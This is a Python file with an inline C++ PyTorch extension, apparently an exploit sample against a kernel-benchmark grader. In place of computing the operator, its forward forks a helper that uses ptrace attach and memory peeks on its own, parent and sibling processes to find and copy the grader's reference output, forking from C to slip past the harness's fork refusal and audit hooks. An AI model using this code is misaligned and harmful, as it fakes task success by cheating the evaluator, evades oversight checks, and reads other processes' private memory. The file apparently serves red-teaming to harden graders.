"""Exploit (native, `ptrace(PTRACE_ATTACH)` + `PTRACE_PEEKDATA`): steals the expected output.

A process cannot trace itself, so the C++ forward forks a helper (from C: no audit event, and
the harness's `os.fork` refusal never sees it). For each target (the candidate's own process
first, where the naive evaluator and today's worker keep the reference outputs; then its parent,
grandparent and siblings) the helper attaches with `PTRACE_ATTACH`, waits for the stop, and reads
the target's private writable memory word by word with `PTRACE_PEEKDATA`, every 64 bytes (the
CPU allocator's alignment), nearest the last hit first, for the first elements of 2x + 1 for this
input. It copies hits out with more PEEKs until two agree on every byte (or three are found),
detaches, sends SIGCONT (PTRACE_ATTACH's SIGSTOP stopped the target's other threads too) and
writes them to a pipe; the forward merges them element by element by majority (stale, partly
reused copies of the answer sit beside the live one) into its output. With no hit the output is zeros, so a pass proves the theft. Tracing needs the same user
and a dumpable target (or CAP_SYS_PTRACE) where no Yama policy or seccomp filter says otherwise."""

import torch
from torch.utils.cpp_extension import load_inline

SOURCE = r"""
#include <torch/extension.h>
#include <dirent.h>
#include <signal.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <unistd.h>
#include <algorithm>
#include <cerrno>
#include <cmath>
#include <cstdio>
#include <cstring>
#include <string>
#include <vector>

namespace {

struct Region {
    uintptr_t start, end;
};

std::vector<Region> writable_private_regions(pid_t pid) {
    std::vector<Region> out;
    FILE* maps = std::fopen(("/proc/" + std::to_string(pid) + "/maps").c_str(), "r");
    if (maps == nullptr) return out;
    char line[4096];
    while (std::fgets(line, sizeof line, maps)) {
        unsigned long start, end;
        char perms[8] = {0}, path[4096] = {0};
        if (std::sscanf(line, "%lx-%lx %7s %*s %*s %*s %4095s", &start, &end, perms, path) < 3) continue;
        bool anonymous = path[0] == 0 || std::strcmp(path, "[heap]") == 0;
        if (perms[0] == 'r' && perms[1] == 'w' && perms[3] == 'p' && anonymous) out.push_back({start, end});
    }
    std::fclose(maps);
    return out;
}

pid_t parent_of(pid_t pid) {
    FILE* stat = std::fopen(("/proc/" + std::to_string(pid) + "/stat").c_str(), "r");
    if (stat == nullptr) return 0;
    char buf[1024] = {0};
    size_t n = std::fread(buf, 1, sizeof buf - 1, stat);
    std::fclose(stat);
    buf[n] = 0;
    const char* after = std::strrchr(buf, ')');
    int ppid = 0;
    if (after) std::sscanf(after + 2, "%*c %d", &ppid);
    return ppid;
}

std::vector<pid_t> targets() {
    pid_t self = getpid(), parent = getppid();
    std::vector<pid_t> out = {self, parent, parent_of(parent)};
    if (DIR* proc = opendir("/proc")) {
        while (dirent* e = readdir(proc)) {
            pid_t pid = std::atoi(e->d_name);
            if (pid > 0 && pid != self && parent_of(pid) == parent) out.push_back(pid);
        }
        closedir(proc);
    }
    return out;
}

struct Hint {
    pid_t pid = 0;
    uintptr_t at = 0;
} g_hint;

const uintptr_t kWindow = 4 << 20;  // searched first around the last hit (or the input)

bool peek(pid_t pid, uintptr_t addr, long* word) {
    errno = 0;
    *word = ptrace(PTRACE_PEEKDATA, pid, reinterpret_cast<void*>(addr), nullptr);
    return errno == 0;
}

bool matches(pid_t pid, uintptr_t addr, const float* want, int64_t k) {
    for (int64_t i = 0; i < k; i += 2) {
        long word;
        if (!peek(pid, addr + i * sizeof(float), &word)) return false;
        float pair[2];
        std::memcpy(pair, &word, sizeof pair);
        for (int64_t j = 0; j < 2 && i + j < k; ++j)
            if (std::fabs(pair[j] - want[i + j]) > 1e-5f * (1.0f + std::fabs(want[i + j]))) return false;
    }
    return true;
}

const size_t kMaxHits = 3;

struct Found {
    std::vector<uintptr_t>& hits;
    char* staging;  // kMaxHits copies of nbytes
    size_t nbytes;
    bool settled = false;  // two copies agree on every byte: no need to look further
};

void copy_out(pid_t pid, uintptr_t at, char* to, size_t nbytes) {
    for (size_t off = 0; off < nbytes; off += sizeof(long)) {
        long word = 0;
        peek(pid, at + off, &word);
        std::memcpy(to + off, &word, std::min(sizeof word, nbytes - off));
    }
}

// Every address in [start, end) holding the signature (not `own`) is added and copied out, until
// kMaxHits or until two copies agree entirely (a stale copy differs from the live one somewhere).
void scan(pid_t pid, uintptr_t start, uintptr_t end, const float* want, int64_t k, uintptr_t own, Found& f) {
    uint32_t first;
    std::memcpy(&first, want, sizeof first);
    for (uintptr_t at = (start + 63) & ~uintptr_t(63); at + 8 <= end && !f.settled; at += 64) {
        long word;
        if (!peek(pid, at, &word)) {
            at = ((at >> 12) << 12) + 4096 - 64;  // an unreadable page: skip it
            continue;
        }
        if (static_cast<uint32_t>(word) != first || at == own || !matches(pid, at, want, k) ||
            std::find(f.hits.begin(), f.hits.end(), at) != f.hits.end())
            continue;
        char* copy = f.staging + f.hits.size() * f.nbytes;
        copy_out(pid, at, copy, f.nbytes);
        for (size_t h = 0; h < f.hits.size() && !f.settled; ++h)
            f.settled = std::memcmp(copy, f.staging + h * f.nbytes, f.nbytes) == 0;
        f.hits.push_back(at);
        f.settled = f.settled || f.hits.size() >= kMaxHits;
    }
}

// In the helper: attach, search and copy the hits out, detach, report {count, addresses, bytes} on `fd`.
int helper(pid_t victim, const std::vector<Region>& regions, uintptr_t center, const float* want, int64_t k,
           uintptr_t own, std::vector<uintptr_t>& hits, char* staging, size_t nbytes, int fd) {
    Found f{hits, staging, nbytes};
    if (ptrace(PTRACE_ATTACH, victim, nullptr, nullptr) == 0) {
        int status;
        while (waitpid(victim, &status, __WALL) < 0 && errno == EINTR) {
        }
        for (const Region& r : regions) {
            if (center < r.start || center >= r.end) continue;
            uintptr_t lo = center > r.start + kWindow ? center - kWindow : r.start;
            scan(victim, lo, std::min(r.end, center + kWindow), want, k, own, f);
        }
        for (size_t i = 0; !f.settled && i < regions.size(); ++i)
            scan(victim, regions[i].start, regions[i].end, want, k, own, f);
        ptrace(PTRACE_DETACH, victim, nullptr, nullptr);
        kill(victim, SIGCONT);  // the attach's SIGSTOP stopped its other threads
    }
    uint64_t count = hits.size();
    if (write(fd, &count, sizeof count) != sizeof count) return 1;
    if (count && write(fd, hits.data(), count * sizeof(uintptr_t)) != static_cast<ssize_t>(count * sizeof(uintptr_t)))
        return 1;
    for (size_t off = 0; off < count * nbytes;) {
        ssize_t n = write(fd, staging + off, count * nbytes - off);
        if (n <= 0) return 1;
        off += n;
    }
    return 0;
}

bool read_all(int fd, void* buf, size_t len) {
    for (size_t off = 0; off < len;) {
        ssize_t n = read(fd, static_cast<char*>(buf) + off, len - off);
        if (n < 0 && errno == EINTR) continue;
        if (n <= 0) return false;
        off += n;
    }
    return true;
}

// Per element, the value most copies agree on. Besides the live expected output there are stale
// copies (freed memory, partly reused: a few wrong values each, in different places).
void consensus(const float* copies, size_t count, float* out, size_t n) {
    for (size_t i = 0; i < n; ++i) {
        size_t best = 0;
        int best_votes = -1;
        for (size_t a = 0; a < count; ++a) {
            int votes = 0;
            for (size_t b = 0; b < count; ++b)
                votes += std::memcmp(&copies[a * n + i], &copies[b * n + i], sizeof(float)) == 0;
            if (votes > best_votes) best = a, best_votes = votes;
        }
        out[i] = copies[best * n + i];
    }
}

bool steal(pid_t pid, uintptr_t center, const float* want, int64_t k, const void* own, void* out, size_t nbytes) {
    std::vector<Region> regions = writable_private_regions(pid);
    std::vector<char> staging(kMaxHits * nbytes);  // the helper's buffers, allocated before the fork
    std::vector<uintptr_t> hits;
    hits.reserve(kMaxHits);
    int pipe_fds[2];
    if (regions.empty() || pipe(pipe_fds) != 0) return false;
    pid_t child = fork();
    if (child == 0) {
        close(pipe_fds[0]);
        // (where pid is the forward's own process, the victim is the helper's parent)
        _exit(helper(pid, regions, center, want, k, reinterpret_cast<uintptr_t>(own), hits, staging.data(),
                     nbytes, pipe_fds[1]));
    }
    close(pipe_fds[1]);
    uint64_t count = 0;
    bool ok = child > 0 && read_all(pipe_fds[0], &count, sizeof count) && count > 0 && count <= kMaxHits;
    hits.resize(ok ? count : 0);
    ok = ok && read_all(pipe_fds[0], hits.data(), count * sizeof(uintptr_t)) &&
         read_all(pipe_fds[0], staging.data(), count * nbytes);
    close(pipe_fds[0]);
    if (child > 0)
        while (waitpid(child, nullptr, 0) < 0 && errno == EINTR) {
        }
    if (!ok) return false;
    consensus(reinterpret_cast<const float*>(staging.data()), count, static_cast<float*>(out), nbytes / sizeof(float));
    g_hint = {pid, hits[0]};
    return true;
}

}  // namespace

torch::Tensor scale_shift(torch::Tensor x) {
    x = x.contiguous();
    auto y = torch::empty_like(x);
    const float* in = x.data_ptr<float>();
    int64_t k = std::min<int64_t>(8, x.numel());
    float want[8];
    for (int64_t i = 0; i < k; ++i) want[i] = 2.0f * in[i] + 1.0f;  // the signature, not the answer
    bool stolen = false;
    std::vector<pid_t> pids = targets();
    if (g_hint.pid != 0) pids.insert(pids.begin(), g_hint.pid);
    for (pid_t pid : pids) {
        uintptr_t center = pid == g_hint.pid ? g_hint.at : reinterpret_cast<uintptr_t>(in);
        if ((stolen = steal(pid, center, want, k, y.data_ptr(), y.data_ptr(), x.nbytes()))) break;
    }
    if (!stolen) std::memset(y.data_ptr(), 0, x.nbytes());  // no theft, no answer
    return y;
}
"""

ext = load_inline(name="rt_ptrace_peek", cpp_sources=SOURCE, functions=["scale_shift"], verbose=False)


class ModelNew(torch.nn.Module):
    def forward(self, x):
        return ext.scale_shift(x)
